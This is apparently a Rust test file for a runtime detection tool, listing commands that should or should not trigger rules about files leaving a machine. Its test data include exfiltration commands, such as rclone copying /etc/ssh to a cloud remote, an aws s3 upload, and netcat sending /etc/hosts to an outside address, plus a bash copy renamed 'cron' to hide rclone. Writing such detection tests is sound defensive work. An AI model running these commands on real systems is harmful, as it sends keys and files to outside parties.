//! Ways of files off a machine.

use super::*;

cases! {
files_to_a_cloud => Case {
    rule: "Files copied to a cloud",
    fires: &[
        act("rclone", stand_in!("rclone", "$t copy /etc/ssh remote:x")).at(&[Host, Below]).by(BOTH),
        act("aws", stand_in!("aws", "$t s3 cp src s3://bucket/x")),
    ],
    near_misses: &[
        act("rclone", stand_in!("rclone", "$t ls remote:x", "$t copy remote:x /srv", "cp /bin/bash %W/cron",
            "%W/cron -c '%W/rclone copy /etc remote:x; :'")),
        act("aws", stand_in!("aws", "$t s3 ls", "$t s3 cp s3://bucket/x src")),
        act("rclone", stand_in!("rclone", "$t copy /etc remote:x")).at(&[Host]).on_terminal(),
    ],
};

file_into_a_connection => Case {
    rule: "File sent into a connection",
    fires: &[act("nc", stand_in!("nc", "$t 203.0.113.5 80 < /etc/hosts")).at(&[Host, Below]).by(BOTH)
        .showing(&[("proc.stdin.name", "/etc/hosts")])],
    near_misses: &[
        act("nc", stand_in!("nc", "$t 203.0.113.5 80 < /dev/null", "$t 127.0.0.1 80 < /etc/hosts", "$t -l 80 < /etc/hosts",
            "echo | $t 203.0.113.5 80")),
    ],
};
}
